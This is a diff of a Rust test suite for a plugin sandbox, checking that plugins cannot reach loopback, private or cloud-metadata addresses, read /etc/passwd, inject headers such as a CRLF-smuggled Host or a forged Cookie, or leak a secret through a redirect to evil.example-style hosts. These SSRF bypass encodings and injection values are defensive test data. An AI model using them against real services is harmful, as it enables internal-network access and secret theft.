@@ -1,13 +1,11 @@
 //! Hosts that a plugin may not reach, fields that it may not send, and secrets that it may not read.
 
-use std::time::Duration;
+use std::ops::RangeInclusive;
 
-use plugin_host::Grants;
-use plugin_wasm::Limits;
+use serde_json::json;
 use support::{Content, Origin, Resource, behaviour};
 
-use super::{Attempt, Call, Case, asked_for, case};
-use crate::guest::previewer;
+use super::{Attempt, Call, Case, Seen, case, does, guest::previewer};
 
 /// A guest that sends a request to the URL of the call, with `method` and with what `prepare` does to `$request`. An
 /// error becomes its answer. `then` may use the response.
@@ -43,44 +41,63 @@ fn sender(method: &str, data: &str, prepare: &str, then: &str) -> Vec<u8> {
             (return (i32.const 512))))
         {then})"
     );
-    previewer(&["http"], &items, &body)
+    previewer(&items, &body)
 }
 
 fn plain() -> Vec<u8> {
     sender("GET", "", "", "")
 }
 
-/// Asks `url`, which is granted as far as `hosts` are.
+/// Asks `url` while these hosts are granted. `{port}` is that of a site on this machine, to which nothing comes.
 fn asks(name: &'static str, what: &str, ends: &'static str, (url, hosts): (&str, &[&str])) -> Case {
+    let site = Origin::start(Vec::new());
+    let here = |text: &str| text.replace("{port}", &site.port().to_string());
+    let (url, hosts): (_, Vec<_>) = (here(url), hosts.iter().map(|host| here(host)).collect());
+    let prepare = format!(
+        "(local.set $request (call $request (i32.const 100) (i32.const 3) (i32.const 800) (i32.const {})))",
+        url.len()
+    );
     let call = Call {
-        url: url.to_owned(),
-        grants: Grants {
-            hosts: hosts.iter().map(|host| host.parse().unwrap()).collect(),
-            ..Grants::default()
-        },
-        ..Call::of(plain())
+        permissions: json!({"hosts": hosts}),
+        site: Some((site, 0..=0)),
+        ..Call::of(sender("GET", &url, &prepare, ""))
     };
     case(name, what, ends, Attempt::Call(Box::new(call)))
 }
 
-/// Asks a site of the user's, which misbehaves.
+/// Is called with the URL of a site of the user's, which misbehaves.
 fn visits(name: &'static str, what: &str, ends: &'static str, guest: Vec<u8>, page: Resource) -> Case {
-    let site = Origin::start(vec![page]);
-    let url = site.url("/page");
+    visits_often(name, what, ends, (guest, page, 1..=1))
+}
+
+/// The same with another number of requests.
+fn visits_often(
+    name: &'static str,
+    what: &str,
+    ends: &'static str,
+    (guest, page, requests): (Vec<u8>, Resource, RangeInclusive<usize>),
+) -> Case {
     let call = Call {
-        grants: asked_for(&url, &["https://bound.example"]),
-        url,
-        limits: Limits {
-            // After each wait for a turn a tick of computing is counted.
-            cpu: Duration::from_secs(2),
-            wall: Duration::from_secs(3),
-            ..Limits::preview()
-        },
-        is_harmless: |listing| !format!("{listing:?}").contains("hunter2"),
-        _site: Some(site),
+        permissions: json!({"inputHost": true}),
+        site: Some((Origin::start(vec![page]), requests)),
         ..Call::of(guest)
     };
     case(name, what, ends, Attempt::Call(Box::new(call)))
+}
+
+/// Is called with the URL of a site of the user's, which leads to another host, which is granted.
+fn led(name: &'static str, what: &str, host: &str) -> Case {
+    let page = hello().with(behaviour::redirect(307, &format!("{host}/")));
+    let call = Call {
+        permissions: json!({"inputHost": true, "hosts": [host]}),
+        site: Some((Origin::start(vec![page]), 1..=1)),
+        ..Call::of(plain())
+    };
+    case(name, what, "forbidden", Attempt::Call(Box::new(call)))
+}
+
+fn hello() -> Resource {
+    page(Content::bytes("hello"))
 }
 
 fn page(content: Content) -> Resource {
@@ -96,11 +113,10 @@ pub(super) fn cases() -> Vec<Case> {
 }
 
 fn addresses() -> Vec<Case> {
-    let this = "127.0.0.1";
-    let literal = |name, url: &str| {
-        let host = url.trim_end_matches('/');
-        let what = format!("asks `{url}`, which its manifest names.");
-        asks(name, &what, "forbidden", (url, &[host]))
+    let literal = |name, host: &str| {
+        let what = format!("asks `http://{host}/`, which its manifest names.");
+        let host = format!("http://{host}:{{port}}");
+        asks(name, &what, "forbidden", (&format!("{host}/"), &[&host]))
     };
     vec![
         asks(
@@ -139,17 +155,17 @@ fn addresses() -> Vec<Case> {
             "denied",
             ("file:///etc/passwd", &[]),
         ),
-        literal("loopback", &format!("http://{this}/")),
-        literal("loopback-decimal", "http://2130706433/"),
-        literal("loopback-hexadecimal", "http://0x7f.1/"),
-        literal("loopback-6", "http://[::1]/"),
-        literal("loopback-mapped", "http://[::ffff:127.0.0.1]/"),
-        literal("loopback-nat64", "http://[64:ff9b::7f00:1]/"),
-        literal("private-network", "http://10.0.0.1/"),
-        literal("unique-local", "http://[fd00::1]/"),
-        literal("link-local", "http://169.254.169.254/"),
-        literal("any-address", "http://0.0.0.0/"),
-        literal("name-of-this-machine", "http://localhost/"),
+        literal("loopback", "127.0.0.1"),
+        literal("loopback-decimal", "2130706433"),
+        literal("loopback-hexadecimal", "0x7f.1"),
+        literal("loopback-6", "[::1]"),
+        literal("loopback-mapped", "[::ffff:127.0.0.1]"),
+        literal("loopback-nat64", "[64:ff9b::7f00:1]"),
+        literal("private-network", "10.0.0.1"),
+        literal("unique-local", "[fd00::1]"),
+        literal("link-local", "169.254.169.254"),
+        literal("any-address", "0.0.0.0"),
+        literal("name-of-this-machine", "localhost"),
     ]
 }
 
@@ -162,32 +178,23 @@ fn fields() -> Vec<Case> {
             "(call $header (local.get $request) (i32.const 800) (i32.const {name_len}) (i32.const {at}) (i32.const {len}))"
         );
         let guest = sender("GET", &format!("{field}{value}"), &prepare, "");
-        let call = Call {
-            grants: asked_for("https://example.org/", &[]),
-            ..Call::of(guest)
-        };
         let what = format!("sends `{field}: {shown}`.");
-        case(name, &what, "invalidInput", Attempt::Call(Box::new(call)))
+        visits_often(name, &what, "invalidInput", (guest, hello(), 0..=0))
     };
     let method = |name, method: &'static str| {
-        let call = Call {
-            grants: asked_for("https://example.org/", &[]),
-            ..Call::of(sender(method, "", "", ""))
-        };
         let what = format!("sends a request `{method}`.");
-        case(name, &what, "invalidInput", Attempt::Call(Box::new(call)))
+        let guest = sender(method, "", "", "");
+        visits_often(name, &what, "invalidInput", (guest, hello(), 0..=0))
     };
     vec![
         sets("line-break", "x-a", "1\\0d\\0aHost: evil.example"),
         sets("own-host", "Host", "evil.example"),
         sets("own-length", "Content-Length", "5"),
         sets("own-framing", "Transfer-Encoding", "chunked"),
-        sets("own-te", "TE", "trailers"),
         sets("own-connection", "Connection", "upgrade"),
         sets("own-cookie", "Cookie", "admin=1"),
         sets("proxy-login", "Proxy-Authorization", "Basic YTpi"),
         method("connect", "CONNECT"),
-        method("trace", "TRACE"),
     ]
 }
 
@@ -206,7 +213,6 @@ fn sites() -> Vec<Case> {
         (br_if $again (i32.lt_u (local.get $i) (i32.const 10000)))",
     );
     let keeps = sender("GET", "", "(br $again)", "");
-    let hello = || page(Content::bytes("hello"));
     vec![
         visits(
             "redirect-away",
@@ -215,26 +221,26 @@ fn sites() -> Vec<Case> {
             plain(),
             hello().with(behaviour::redirect(302, "https://evil.example/")),
         ),
-        visits(
+        led(
             "redirect-inside",
-            "is sent on to another port of the user's own machine.",
-            "denied",
-            plain(),
-            hello().with(behaviour::redirect(307, "http://127.0.0.1:1/")),
+            "is sent on to another port of the user's own machine, which its manifest names.",
+            "http://127.0.0.1:1",
         ),
-        visits(
+        led(
+            "redirect-inside-by-name",
+            "is sent on to `localhost`, which its manifest names.",
+            "http://localhost:1",
+        ),
+        led(
             "redirect-to-metadata",
-            "is sent on to `http://169.254.169.254/`.",
-            "denied",
-            plain(),
-            hello().with(behaviour::redirect(302, "http://169.254.169.254/")),
+            "is sent on to `http://169.254.169.254/`, which its manifest names.",
+            "http://169.254.169.254",
         ),
-        visits(
+        visits_often(
             "redirect-to-itself",
             "is sent round in circles.",
             "invalidInput",
-            plain(),
-            hello().with(behaviour::redirect(302, "/page")),
+            (plain(), hello().with(behaviour::redirect(302, "/page")), 11..=11),
         ),
         visits(
             "large-page",
@@ -271,19 +277,17 @@ fn sites() -> Vec<Case> {
             reads(),
             page(Content::bytes(numbers)),
         ),
-        visits(
+        visits_often(
             "request-flood",
             "sends 10,000 requests; after the first twenty it may send five a second, and 64 in all.",
-            "rateLimited",
-            again,
-            hello(),
+            "cpuLimit or rateLimited",
+            (again, hello(), 20..=64),
         ),
-        visits(
+        visits_often(
             "pending-requests",
             "builds requests without end and sends none.",
             "hostcallLimit",
-            keeps,
-            hello(),
+            (keeps, hello(), 0..=0),
         ),
     ]
 }
@@ -295,80 +299,75 @@ fn secrets() -> Vec<Case> {
     };
     let shows = "(call $text (i32.load (i32.const 408)) (i32.const 704))
         (call $title (local.get $listing) (i32.load (i32.const 712)) (i32.load (i32.const 716)))";
-    let stolen = Call {
-        url: "https://evil.example/".to_owned(),
-        grants: asked_for("https://evil.example/", &["https://bound.example"]),
-        ..Call::of(with_secret(""))
-    };
-    // A fingerprint of the secret as the title; without the user's consent, it is told why not.
-    let vault = r#"
-        (import "svc:plugin/vault@0.1.0" "digest" (func $digest (param i32 i32 i32 i32 i32 i32 i32)))
-        (import "svc:plugin/listing@0.1.0" "[method]listing.title" (func $title (param i32 i32 i32)))
-        (memory (export "memory") 2)
-        (data (i32.const 100) "{token}")"#;
-    let digest = "(call $digest (i32.const 0) (i32.const 0) (i32.const 100) (i32.const 7) (i32.const 2) (i32.const 0)
-            (i32.const 400))
-        (call $title (local.get $listing) (i32.load (i32.const 404)) (i32.load (i32.const 408)))";
-    let fingerprint = Call {
-        is_harmless: |listing| {
-            let title = listing.title.as_deref().unwrap_or_default();
-            title.contains("secrets:derive")
-        },
-        ..Call::of(previewer(&["vault"], vault, digest))
-    };
-    // A hundred requests with a body of 20 MiB each, none of which is sent.
+    // Requests with a body of 20 MiB and a query of as much, none of which is sent.
     let http = r#"
         (import "svc:plugin/http@0.1.0" "[constructor]request" (func $request (param i32 i32 i32 i32) (result i32)))
         (import "svc:plugin/http@0.1.0" "[method]request.body-bytes" (func $body (param i32 i32 i32)))
         (import "svc:plugin/http@0.1.0" "[method]request.query" (func $query (param i32 i32 i32 i32 i32)))
         (memory (export "memory") 400)
         (data (i32.const 100) "POST")"#;
-    let hoards = "(local $i i32) (local $kept i32)
+    let hoards = "(local $kept i32)
         (loop $l
             (local.set $kept (call $request (i32.const 100) (i32.const 4) (local.get $url) (local.get $length)))
             (call $body (local.get $kept) (i32.const 65536) (i32.const 20971520))
             (call $query (local.get $kept) (i32.const 100) (i32.const 4) (i32.const 65536) (i32.const 20971520))
-            (local.set $i (i32.add (local.get $i) (i32.const 1)))
-            (br_if $l (i32.lt_u (local.get $i) (i32.const 100))))";
+            (br $l))";
     vec![
-        case(
-            "fingerprint-of-a-secret",
-            "has a digest computed from a secret, about which its user was not asked.",
-            "ok",
-            Attempt::Call(Box::new(fingerprint)),
-        ),
-        case(
+        does(
             "hoarded-requests",
-            "puts together a hundred requests of 40 MiB each and sends none; nothing of them is kept.",
-            "ok",
-            Attempt::Call(Box::new(Call {
-                limits: Limits {
-                    cpu: Duration::from_secs(20),
-                    wall: Duration::from_mins(1),
-                    ..Limits::preview()
-                },
-                ..Call::of(previewer(&["http"], http, hoards))
-            })),
+            "puts together requests of 40 MiB each without end and sends none; nothing of them is kept.",
+            "cpuLimit or hostcallLimit or wallLimit",
+            (http, hoards),
         ),
-        case(
+        tells(
             "secret-elsewhere",
             "sends a secret to a host that it is not bound to.",
             "denied",
-            Attempt::Call(Box::new(stolen)),
+            (with_secret(""), hello(), Bound::Elsewhere),
         ),
-        visits(
+        tells(
             "secret-echoed",
             "reads a page that repeats the secret which was sent to it.",
             "ok",
-            with_secret(shows),
-            page(Content::bytes("you sent hunter2 and hunter2")),
+            (
+                with_secret(shows),
+                page(Content::bytes("you sent hunter2 and hunter2")),
+                Bound::Here,
+            ),
         ),
-        visits(
+        tells(
             "secret-carried-on",
             "is sent on to another host by a site that writes the secret into the URL.",
             "denied",
-            with_secret(""),
-            page(Content::bytes("")).with(behaviour::redirect(302, "https://bound.example.evil.net/?k=hunter2")),
+            (
+                with_secret(""),
+                hello().with(behaviour::redirect(302, "https://bound.example.evil.net/?k=hunter2")),
+                Bound::Here,
+            ),
         ),
     ]
+}
+
+/// Where the secret of a plugin may be sent.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Bound {
+    Here,
+    Elsewhere,
+}
+
+/// Is called with the URL of a site of the user's, and has a secret, which is sent there if it may be.
+fn tells(name: &'static str, what: &str, ends: &'static str, (guest, page, bound): (Vec<u8>, Resource, Bound)) -> Case {
+    let site = Origin::start(vec![page]);
+    let here = site.url("");
+    let (host, requests, is_harmless): (_, _, fn(&Seen) -> bool) = match bound {
+        Bound::Here => (here.trim_end_matches('/'), 1..=1, |seen| seen.was_told),
+        Bound::Elsewhere => ("https://bound.example", 0..=0, |seen| !seen.was_told),
+    };
+    let call = Call {
+        permissions: json!({"inputHost": true, "hosts": [host], "secrets": {"token": [host]}}),
+        is_harmless,
+        site: Some((site, requests)),
+        ..Call::of(guest)
+    };
+    case(name, what, ends, Attempt::Call(Box::new(call)))
 }
